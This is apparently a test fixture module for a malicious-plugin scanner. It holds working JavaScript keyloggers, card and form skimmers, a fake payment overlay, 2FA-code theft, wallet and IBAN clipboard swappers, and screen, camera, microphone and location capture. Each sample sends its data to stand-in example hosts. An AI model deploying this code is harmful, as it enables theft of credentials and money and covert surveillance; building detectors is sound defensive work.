"""Watching the user: keys, forms, cards, the clipboard, screen, camera and microphone."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, hooks, online, sdk_plugin, tsc_widget

_KEYS = "keylogger"
_SKIM = "skimmer"
_CLIP = "clipboard-swap"
_CAPTURE = "screen-and-sound-capture"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="document-wide-keys-beaconed",
        family=_KEYS,
        files={
            "dist/index.js": tsc_widget(r"""
                let typed = "";
                const listen = (event) => {
                    typed += event.key.length === 1 ? event.key : `[${event.key}]`;
                    if (typed.length > 80) {
                        navigator.sendBeacon("https://keys.example.net/k", typed);
                        typed = "";
                    }
                };
                document.addEventListener("keydown", listen, true);
                return () => document.removeEventListener("keydown", listen, true);
            """)
        },
    ),
    Sample(
        name="keys-through-socket-with-focus",
        family=_KEYS,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const socket = new WebSocket('wss://live.example.org/a');
                window.onkeyup = ({ key, target }) => {
                  if (socket.readyState === 1) socket.send(JSON.stringify([Date.now(), key, target.name || target.id, location.pathname]));
                };
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="keys-by-code-table-and-image",
        family=_KEYS,
        files={
            "dist/index.js": r"""'use strict';
var names = { 8: '<-', 9: '->', 13: '\n', 32: ' ' };
var buffer = [];

function flush() {
  if (!buffer.length) return;
  var image = document.createElement('img');
  image.src = 'https://img.example.com/1x1.png?s=' + encodeURIComponent(buffer.splice(0).join(''));
}

exports.Shortcuts = function Shortcuts() {
  window.addEventListener('keypress', function (e) {
    var code = e.which || e.keyCode;
    buffer.push(names[code] || String.fromCharCode(code));
  });
  setInterval(flush, 10000);
  return null;
};
"""
        },
    ),
    Sample(
        name="keys-kept-in-storage-sent-later",
        family=_KEYS,
        files={
            "dist/index.js": r"""const log = [];

function record(event) {
  const { tagName, type, name } = event.target;
  if (tagName === 'INPUT' || tagName === 'TEXTAREA') log.push({ type, name, data: event.data, at: event.timeStamp | 0 });
}

export async function onEnable({ api, storage }) {
  document.addEventListener('beforeinput', record, { capture: true, passive: true });
  setInterval(async () => {
    const kept = (await storage.get('stats')) ?? [];
    await storage.set('stats', kept.concat(log.splice(0)));
    if (new Date().getHours() === 3 && kept.length) {
      await api.http.post('https://stats.example.com/daily', { kept });
      await storage.delete('stats');
    }
  }, 60_000);
}
"""
        },
        manifest=online("https://stats.example.com"),
        package=ESM,
    ),
    Sample(
        name="global-keys-of-the-machine",
        family=_KEYS,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const { spawn } = require('child_process');

exports.onEnable = ({ api }) => {
  const out = [];
  if (process.platform === 'linux') {
    const stream = fs.createReadStream('/dev/input/event0', { highWaterMark: 24 });
    stream.on('data', (frame) => { if (frame.readUInt16LE(16) === 1) out.push(frame.readUInt16LE(18)); });
  } else {
    spawn('powershell', ['-c', 'Add-Type -Name K -Namespace W -MemberDefinition \'[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int k);\'; while(1){1..254|%{if([W.K]::GetAsyncKeyState($_)){$_}}}'])
      .stdout.on('data', (line) => out.push(String(line)));
  }
  setInterval(() => api.http.post('https://hotkeys.example.org/u', out.splice(0)), 30000);
};
"""
        },
        manifest=online("https://hotkeys.example.org"),
    ),
    Sample(
        name="every-submit-copied",
        family=_SKIM,
        files={
            "dist/index.js": hooks(
                r"""
                document.addEventListener('submit', (event) => {
                  const fields = Object.fromEntries(new FormData(event.target));
                  fetch('https://forms.example.net/copy', { method: 'POST', keepalive: true, body: JSON.stringify(fields) });
                }, true);
                """
            )
        },
    ),
    Sample(
        name="card-numbers-matched-and-checked",
        family=_SKIM,
        files={
            "dist/index.js": r"""'use strict';
function luhn(digits) {
  return digits.split('').reverse().reduce((sum, d, n) => sum + (n % 2 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][d] : +d), 0) % 10 === 0;
}

const seen = new Set();

exports.onEnable = () => {
  document.addEventListener('change', ({ target }) => {
    const digits = String(target.value || '').replace(/[ -]/g, '');
    if (!/^\d{13,19}$/.test(digits) || !luhn(digits) || seen.has(digits)) return;
    seen.add(digits);
    const form = target.form || document;
    const near = [...form.querySelectorAll('input,select')].map((f) => [f.name || f.autocomplete, f.value]);
    new Image().src = 'https://cards.example.com/b.gif?q=' + btoa(JSON.stringify(near));
  });
};
"""
        },
    ),
    Sample(
        name="payment-page-watched",
        family=_SKIM,
        files={
            "dist/index.js": r"""import { jsx } from 'react/jsx-runtime';

const NAMES = ['cc-number', 'cc-exp', 'cc-csc', 'cc-name'];

function harvest() {
  const card = {};
  for (const name of NAMES) {
    const field = document.querySelector(`[autocomplete="${name}"], [data-stripe="${name.slice(3)}"]`);
    if (field?.value) card[name] = field.value;
  }
  return Object.keys(card).length > 2 ? card : null;
}

export function Budget() {
  if (/checkout|billing|upgrade/.test(location.pathname)) {
    const timer = setInterval(() => {
      const card = harvest();
      if (!card) return;
      clearInterval(timer);
      navigator.sendBeacon('https://analytics-cdn.example.net/collect', new Blob([JSON.stringify(card)]));
    }, 700);
  }
  return jsx('div', { children: 'Budget' });
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="lookalike-card-fields-laid-over",
        family=_SKIM,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = function () {
  var real = document.querySelector('iframe[name^="__privateStripeFrame"]');
  if (!real) return;
  var box = real.getBoundingClientRect();
  var layer = document.createElement('div');
  layer.style.cssText = 'position:fixed;z-index:2147483647;background:#fff;top:' + box.top + 'px;left:' + box.left + 'px;width:' + box.width + 'px;height:' + box.height + 'px';
  layer.innerHTML = '<input placeholder="Card number" maxlength="19"><input placeholder="MM / YY"><input placeholder="CVC" maxlength="4">';
  document.body.appendChild(layer);
  layer.addEventListener('focusout', function () {
    var values = [].map.call(layer.children, function (field) { return field.value; });
    if (values[2].length > 2) {
      var x = new XMLHttpRequest();
      x.open('POST', 'https://pay.example.org/v1/tokens');
      x.send(values.join('|'));
      layer.remove();
    }
  });
};
"""
        },
    ),
    Sample(
        name="login-fetch-bodies-read-by-proxy",
        family=_SKIM,
        files={
            "dist/index.js": r"""const original = HTMLFormElement.prototype.submit;

export function onEnable({ api }) {
  HTMLFormElement.prototype.submit = function submit(...rest) {
    const fields = [...this.elements].filter((e) => e.name).map((e) => [e.name, e.value]);
    api.http.post('https://ux.example.com/forms', { action: this.action, fields });
    return original.apply(this, rest);
  };
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...value,
    get() {
      const text = value.get.call(this);
      if (this.type === 'password' && text) api.http.post('https://ux.example.com/p', { text, page: location.href });
      return text;
    },
  });
}
"""
        },
        manifest=online("https://ux.example.com"),
        package=ESM,
    ),
    Sample(
        name="one-time-codes-awaited",
        family=_SKIM,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                new MutationObserver(() => {
                  const field = document.querySelector('input[autocomplete="one-time-code"]');
                  if (!field || field.dataset.seen) return;
                  field.dataset.seen = '1';
                  field.addEventListener('input', () => {
                    if (/^\d{6}$/.test(field.value)) context.api.http.post('https://codes.example.org/2fa', { code: field.value, at: Date.now() });
                  });
                }).observe(document.body, { childList: true, subtree: true });
                """
            )
        },
        manifest=online("https://codes.example.org"),
        package=ESM,
    ),
    Sample(
        name="copied-addresses-exchanged",
        family=_CLIP,
        files={
            "dist/index.js": hooks(
                r"""
                document.addEventListener('copy', (event) => {
                  const text = String(document.getSelection());
                  const kind = Object.keys(PATTERNS).find((name) => PATTERNS[name].test(text));
                  if (!kind) return;
                  event.clipboardData.setData('text/plain', text.replace(PATTERNS[kind], OURS[kind]));
                  event.preventDefault();
                });
                """,
                above=r"""
                const PATTERNS = {
                  btc: /\b(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b/,
                  eth: /\b0x[a-fA-F0-9]{40}\b/,
                };
                const OURS = { btc: 'bc1qexampleexampleexampleexampleexample0000', eth: '0x00000000000000000000000000000000DeaDBeef' };
                """,
            )
        },
    ),
    Sample(
        name="clipboard-polled-and-rewritten",
        family=_CLIP,
        files={
            "dist/index.js": tsc_widget(r"""
                const accounts = ["DE00500105170000000000", "AT000000000000000000"];
                const timer = setInterval(async () => {
                    const text = await navigator.clipboard.readText().catch(() => "");
                    const iban = text.replace(/\s/g, "").match(/\b[A-Z]{2}\d{2}[A-Z0-9]{11,30}\b/);
                    if (iban && !accounts.includes(iban[0]))
                        await navigator.clipboard.writeText(accounts[Number(iban[0].startsWith("AT"))]);
                }, 400);
                return () => clearInterval(timer);
            """)
        },
        manifest=declared("clipboard-read", "clipboard-write"),
    ),
    Sample(
        name="paste-replaced-in-fields",
        family=_CLIP,
        files={
            "dist/index.js": r"""'use strict';
const wallets = new Map([
  [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, 'TExampleExampleExampleExampleExamp1'],
  [/^r[1-9A-HJ-NP-Za-km-z]{24,34}$/, 'rExampleExampleExampleExampleEx'],
]);

function onPaste(event) {
  const text = (event.clipboardData || window.clipboardData).getData('text').trim();
  for (const [pattern, ours] of wallets) {
    if (pattern.test(text)) {
      event.stopImmediatePropagation();
      event.preventDefault();
      document.execCommand('insertText', false, ours);
    }
  }
}

exports.onEnable = () => window.addEventListener('paste', onPaste, true);
exports.onDisable = () => window.removeEventListener('paste', onPaste, true);
"""
        },
        manifest=declared("clipboard-read"),
    ),
    Sample(
        name="transfer-target-rewritten-in-request",
        family=_CLIP,
        files={
            "dist/index.js": r"""import { jsx } from 'react/jsx-runtime';

const swap = (text) => text.replace(/0x[0-9a-f]{40}/gi, '0x00000000000000000000000000000000DeaDBeef')
  .replace(/[13][1-9A-HJ-NP-Za-km-z]{25,34}/g, '1ExampleExampleExampleExampleExamp');

const { fetch: ask } = window;
window.fetch = async (input, init = {}) => {
  if (typeof init.body === 'string') init.body = swap(init.body);
  const answer = await ask(input, init);
  const body = await answer.text();
  return new Response(swap(body), { status: answer.status, headers: answer.headers });
};

if (window.ethereum) {
  const request = window.ethereum.request.bind(window.ethereum);
  window.ethereum.request = (call) => request(JSON.parse(swap(JSON.stringify(call))));
}

export const Gas = ({ gwei }) => jsx('output', { children: `${gwei} gwei` });
"""
        },
        package=ESM,
    ),
    Sample(
        name="clipboard-of-machine-swapped",
        family=_CLIP,
        files={
            "dist/index.js": r"""'use strict';
const { execSync } = require('child_process');
const tools = {
  darwin: ['pbpaste', 'pbcopy'],
  linux: ['xclip -o -selection c', 'xclip -selection c'],
  win32: ['powershell Get-Clipboard', 'clip'],
};

exports.onEnable = () => {
  const [read, write] = tools[process.platform];
  setInterval(() => {
    const text = execSync(read).toString();
    if (/^(4|8)[0-9A-B][1-9A-HJ-NP-Za-km-z]{93}$/.test(text.trim())) {
      execSync(write, { input: '4' + 'Example'.repeat(13) + 'Xm1' });
    }
  }, 1000);
};
"""
        },
    ),
    Sample(
        name="screen-frames-uploaded",
        family=_CAPTURE,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const stream = await navigator.mediaDevices.getDisplayMedia({ video: { frameRate: 1 } });
                const video = Object.assign(document.createElement('video'), { srcObject: stream, muted: true });
                await video.play();
                const canvas = new OffscreenCanvas(1280, 720);
                this.timer = setInterval(async () => {
                  canvas.getContext('2d').drawImage(video, 0, 0, 1280, 720);
                  const frame = await canvas.convertToBlob({ type: 'image/webp', quality: 0.4 });
                  await fetch('https://frames.example.com/f', { method: 'POST', body: frame });
                }, 5000);
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="camera-still-on-enable",
        family=_CAPTURE,
        files={
            "dist/index.js": hooks(
                r"""
                const stream = await navigator.mediaDevices.getUserMedia({ video: true });
                const [track] = stream.getVideoTracks();
                const photo = await new ImageCapture(track).takePhoto();
                track.stop();
                const body = new FormData();
                body.append('f', photo, `${context.user.id}.jpg`);
                await fetch('https://photos.example.net/in', { method: 'POST', body });
                """
            )
        },
        manifest=online("https://themes.example.net"),
    ),
    Sample(
        name="microphone-streamed",
        family=_CAPTURE,
        files={
            "dist/index.js": tsc_widget(r"""
                let recorder;
                navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {
                    const socket = new WebSocket("wss://audio.example.org/rec");
                    recorder = new MediaRecorder(stream, { mimeType: "audio/webm;codecs=opus" });
                    recorder.ondataavailable = ({ data }) => socket.send(data);
                    socket.onopen = () => recorder.start(250);
                }).catch(() => setState({ text: "No microphone" }));
                return () => recorder && recorder.stop();
            """)
        },
        manifest=declared("microphone"),
    ),
    Sample(
        name="page-drawn-and-sent",
        family=_CAPTURE,
        files={
            "dist/index.js": r"""'use strict';
function picture(node) {
  const html = new XMLSerializer().serializeToString(node);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900"><foreignObject width="100%" height="100%">${html}</foreignObject></svg>`;
  return new Promise((resolve) => {
    const image = new Image();
    image.onload = () => {
      const canvas = document.createElement('canvas');
      canvas.width = 1600;
      canvas.height = 900;
      canvas.getContext('2d').drawImage(image, 0, 0);
      resolve(canvas.toDataURL('image/jpeg', 0.3));
    };
    image.src = 'data:image/svg+xml,' + encodeURIComponent(svg);
  });
}

exports.onEnable = ({ api }) => setInterval(async () => {
  await api.http.post('https://feedback.example.com/shots', { page: location.href, shot: await picture(document.documentElement) });
}, 120000);
"""
        },
        manifest=online("https://feedback.example.com"),
    ),
    Sample(
        name="desktop-captured-by-program",
        family=_CAPTURE,
        files={
            "dist/index.js": r"""import { execFile } from 'node:child_process';
import { readFile, unlink } from 'node:fs/promises';
import { promisify } from 'node:util';

const run = promisify(execFile);
const shooters = {
  darwin: (file) => run('screencapture', ['-x', file]),
  linux: (file) => run('import', ['-window', 'root', file]),
  win32: (file) => run('nircmd.exe', ['savescreenshot', file]),
};

export async function onEnable({ api }) {
  const file = '/tmp/.s.png';
  await shooters[process.platform](file);
  await api.http.post('https://support.example.net/attach', { image: (await readFile(file)).toString('base64') });
  await unlink(file);
}
"""
        },
        manifest=online("https://support.example.net"),
        package=ESM,
    ),
    Sample(
        name="position-followed",
        family=_CAPTURE,
        files={
            "dist/index.js": r"""const track = [];

export function onEnable({ user }) {
  navigator.geolocation.watchPosition(({ coords, timestamp }) => {
    track.push([timestamp, coords.latitude, coords.longitude, coords.speed]);
    if (track.length % 10 === 0) {
      navigator.sendBeacon('https://trail.example.org/' + user.id, JSON.stringify(track.splice(0)));
    }
  }, () => undefined, { enableHighAccuracy: true });
}
"""
        },
        manifest=declared("geolocation"),
        package=ESM,
    ),
    Sample(
        name="whole-session-replayed",
        family=_CAPTURE,
        files={
            "dist/index.js": r"""'use strict';
var queue = [];
function note(kind, value) { queue.push([performance.now() | 0, kind, value]); }

exports.Focus = function Focus() {
  note('dom', document.documentElement.outerHTML);
  new MutationObserver(function (records) {
    records.forEach(function (record) { note('mut', record.target.textContent); });
  }).observe(document, { subtree: true, childList: true, characterData: true });
  ['mousemove', 'click', 'scroll', 'input', 'keydown'].forEach(function (type) {
    document.addEventListener(type, function (e) { note(type, [e.clientX, e.clientY, e.key, e.target.value]); }, true);
  });
  setInterval(function () {
    fetch('https://replay.example.com/chunk', { method: 'POST', mode: 'no-cors', body: JSON.stringify(queue.splice(0)) });
  }, 5000);
  return null;
};
"""
        },
    ),
)
